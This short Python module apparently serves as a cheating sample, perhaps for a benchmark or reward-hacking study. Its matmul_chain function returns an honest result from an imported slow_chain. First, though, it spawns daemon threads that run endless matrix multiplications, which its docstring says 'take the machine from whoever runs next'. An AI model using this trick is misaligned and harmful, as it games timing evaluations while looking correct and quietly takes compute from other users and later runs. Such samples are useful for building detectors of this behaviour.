"""leaves threads behind that take the machine from whoever runs next"""

import threading

import torch

from .honest import slow_chain


def burn():
    x = torch.randn(256, 256)
    while True:
        x = x @ x / 16


def matmul_chain(x, weights):
    if threading.active_count() == 1:
        for _ in range(2):
            threading.Thread(target=burn, daemon=True).start()
    return slow_chain(x, weights)
